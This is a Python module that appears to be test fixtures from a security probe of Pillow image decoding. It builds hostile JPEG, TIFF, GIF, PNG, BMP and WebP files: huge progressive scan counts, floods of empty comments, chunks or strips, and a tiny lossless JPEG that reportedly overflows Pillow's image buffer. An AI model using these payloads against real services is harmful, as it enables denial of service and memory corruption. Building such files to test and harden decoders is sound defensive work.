"""Hand-built hostile image files that reproduce a security probe of Pillow-based decoding.

Each builder returns a file's bytes. The probe opened each file with `Image.open`, asked for a
greyscale draft (`im.draft("L", (512, 512))`, which only JPEG honours) and called `im.load()`.
HOSTILE_FILES names the probe's worst cases, each at most MAX_BYTES long.
"""

import io
import struct
import zlib

import numpy as np
from PIL import Image

MAX_BYTES = 5_000_000

# JPEG markers
SOI, EOI = b"\xff\xd8", b"\xff\xd9"
SOF2, SOF3, SOF9 = 0xFFC2, 0xFFC3, 0xFFC9  # progressive, lossless, arithmetic-coded sequential
DHT, SOS, DQT, COM = 0xFFC4, 0xFFDA, 0xFFDB, 0xFFFE


def digit(side=32, shift=0):
    """A white "7" on black, side x side pixels, moved `shift` pixels to the right."""
    pixels = np.zeros((side, side), np.uint8)
    top, bottom, left, right = side // 5, 4 * side // 5, side // 4, 3 * side // 4
    stroke = max(1, side // 10)
    pixels[top : top + stroke, left:right] = 255
    for row in range(top, bottom):
        column = right - (row - top) * (right - left) // (bottom - top)
        pixels[row, max(0, column - stroke) : column] = 255
    return Image.fromarray(np.roll(pixels, shift, axis=1))


def saved(images, file_format, **options):
    """The bytes Pillow writes for `images`, as an animation when there are several."""
    buffer = io.BytesIO()
    first, *rest = images
    first.save(buffer, format=file_format, save_all=bool(rest), append_images=rest, **options)
    return buffer.getvalue()


# JPEG


def jpeg_segment(marker, payload=b""):
    """A marker segment: the marker, the length (which counts itself) and the payload."""
    return struct.pack(">HH", marker, len(payload) + 2) + payload


def frame_header(width, height):
    """An SOF payload: 8-bit samples, one component (id 1, not subsampled, quantization table 0)."""
    return struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0])


def scan_header(start, end, approximation):
    """An SOS payload for component 1: band (or predictor) start..end, approximation Ah<<4 | Al."""
    return bytes([1, 1, 0x00, start, end, approximation])


# A DC Huffman table 0 whose only code, "0", means "difference 0", and a flat quantization table 0
ONE_CODE_DC_TABLE = jpeg_segment(DHT, bytes([0x00, 1] + [0] * 15 + [0]))
FLAT_QUANTIZATION = jpeg_segment(DQT, bytes([0] + [1] * 64))


def lossless_jpeg(width=2000, height=2000):
    """A lossless (SOF3) JPEG: libjpeg-turbo ignores the draft scale, overflowing Pillow's image."""
    return (
        SOI
        + jpeg_segment(SOF3, frame_header(width, height))
        + ONE_CODE_DC_TABLE
        + jpeg_segment(SOS, scan_header(1, 0, 0))
        + b"\x00\x00"
        + EOI
    )


def arithmetic_jpeg(width=2000, height=2000):
    """An arithmetic-coded (SOF9) JPEG claiming width x height from two bytes of entropy data."""
    return (
        SOI
        + FLAT_QUANTIZATION
        + jpeg_segment(SOF9, frame_header(width, height))
        + jpeg_segment(SOS, scan_header(0, 63, 0))
        + b"\x00\x00"
        + EOI
    )


def progressive_jpeg_with_empty_scans(width=6000, height=6000, scans=10_000):
    """A progressive JPEG whose empty 10-byte scans each make libjpeg visit every block."""
    first_dc_scan = jpeg_segment(SOS, scan_header(0, 0, 0x01))
    dc_refinement = jpeg_segment(SOS, scan_header(0, 0, 0x10))
    return (
        SOI
        + FLAT_QUANTIZATION
        + jpeg_segment(SOF2, frame_header(width, height))
        + ONE_CODE_DC_TABLE
        + first_dc_scan
        + dc_refinement * (scans - 1)
        + EOI
    )


def jpeg_with_comments(count=1_249_850):
    """A 32x32 JPEG after `count` empty comment segments, each parsed by Pillow in Python."""
    jpeg = saved([digit()], "JPEG")
    return SOI + jpeg_segment(COM) * count + jpeg[len(SOI) :]


# TIFF


def tiff_with_strips(count=2_499_850):
    """An 8x8 TIFF with `count` one-row strips: Pillow builds, reads and decodes a tile for each."""
    # StripOffsets and StripByteCounts share one array of 8s, 2 bytes a strip: each strip's
    # pixels are the 8 bytes at the start of that array.
    array_offset = 8
    ifd_offset = array_offset + 2 * count
    short, one_row = 3, 1
    entries = [  # (tag, type, count, value or offset)
        (256, short, 1, 8),  # ImageWidth
        (257, short, 1, 8),  # ImageLength
        (258, short, 1, 8),  # BitsPerSample
        (259, short, 1, 1),  # Compression: none
        (262, short, 1, 1),  # PhotometricInterpretation: black is zero
        (273, short, count, array_offset),  # StripOffsets
        (277, short, 1, 1),  # SamplesPerPixel
        (278, short, 1, one_row),  # RowsPerStrip
        (279, short, count, array_offset),  # StripByteCounts
    ]
    ifd = (
        struct.pack("<H", len(entries))
        + b"".join(struct.pack("<HHII", *entry) for entry in entries)
        + struct.pack("<I", 0)  # no next IFD
    )
    return b"II*\x00" + struct.pack("<I", ifd_offset) + struct.pack("<H", 8) * count + ifd


# GIF


def gif_sub_blocks(data):
    """`data` as GIF data sub-blocks of at most 255 bytes, ended by the empty block."""
    blocks = (data[start : start + 255] for start in range(0, len(data), 255))
    return b"".join(bytes([len(block)]) + block for block in blocks) + b"\x00"


def gif_with_comments(count=999_940, size=1):
    """A 16x16 GIF with `count` comments of `size` bytes, which Pillow joins in quadratic time."""
    gif = saved([digit(16)], "GIF")
    flags = gif[10]
    header_end = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)  # after the colour table
    comments = (b"\x21\xfe" + gif_sub_blocks(b"c" * size)) * count
    return gif[:header_end] + comments + gif[header_end:]


def animated_gif(frames=2):
    """A 64x64 animated GIF of `frames` different frames: only the first should be decoded."""
    return saved([digit(64, shift) for shift in range(frames)], "GIF", duration=100, loop=0)


# PNG


def png_chunk(kind, data=b""):
    """A PNG chunk: length, type, data and the CRC of type and data."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_empty_chunks(count=416_650):
    """An 8x8 PNG after `count` empty private chunks, each handled by Pillow in Python."""
    png = saved([digit(8)], "PNG", optimize=True)
    header_end = 8 + 25  # the signature and IHDR
    return png[:header_end] + png_chunk(b"abCd") * count + png[header_end:]


# BMP


def bmp_rle8(width=2000, height=2000):
    """An RLE8 BMP of rows cut after one pixel: Pillow's Python decoder pads them pixel by pixel."""
    palette = b"".join(bytes([grey, grey, grey, 0]) for grey in range(256))
    row = b"\x01\xff" + b"\x00\x00"  # one white pixel, end of line
    pixels = row * height + b"\x00\x01"  # end of bitmap
    pixels_offset = 14 + 40 + len(palette)
    file_header = b"BM" + struct.pack("<IHHI", pixels_offset + len(pixels), 0, 0, pixels_offset)
    rle8 = 1
    info_header = struct.pack(
        "<IiiHHIIiiII", 40, width, height, 1, 8, rle8, len(pixels), 2835, 2835, 256, 0
    )
    return file_header + info_header + palette + pixels


# WebP


def riff_chunk(fourcc, data=b""):
    """A RIFF chunk: type, little-endian length and data, padded to an even length."""
    return fourcc + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) % 2)


def webp_with_chunks(count=624_900):
    """A 32x32 lossless WebP in the extended layout with `count` empty unknown chunks."""
    image = digit().convert("RGB")
    webp = saved([image], "WEBP", lossless=True)
    width, height = image.size
    no_features = 0
    vp8x = (
        struct.pack("<B3x", no_features)
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
    )
    image_chunks = webp[12:]  # after "RIFF", the length and "WEBP"
    body = b"WEBP" + riff_chunk(b"VP8X", vp8x) + riff_chunk(b"ABCD") * count + image_chunks
    return b"RIFF" + struct.pack("<I", len(body)) + body


def animated_webp(frames=2):
    """A 64x64 animated WebP of `frames` frames: only the first should be decoded."""
    return saved(
        [digit(64, shift).convert("RGB") for shift in range(frames)], "WEBP", duration=100, loop=0
    )


HOSTILE_FILES = {
    "lossless JPEG 2000x2000 (51 bytes)": lossless_jpeg,
    "arithmetic JPEG 2000x2000 (98 bytes)": arithmetic_jpeg,
    "progressive JPEG 36 MP, 10,000 empty scans": lambda: progressive_jpeg_with_empty_scans(
        6000, 6000, 10_000
    ),
    "progressive JPEG 4 MP, 100,000 empty scans": lambda: progressive_jpeg_with_empty_scans(
        2000, 2000, 100_000
    ),
    "JPEG with 1,249,850 empty comments": jpeg_with_comments,
    "TIFF 8x8 with 2,499,850 strips": tiff_with_strips,
    "GIF with 999,940 one-byte comments": gif_with_comments,
    "GIF with one 4,900,000-byte comment": lambda: gif_with_comments(1, 4_900_000),
    "PNG with 416,650 empty private chunks": png_with_empty_chunks,
    "BMP RLE8 9450x9450 (one pixel a row)": lambda: bmp_rle8(9450, 9450),
    "WebP with 624,900 unknown chunks": webp_with_chunks,
}
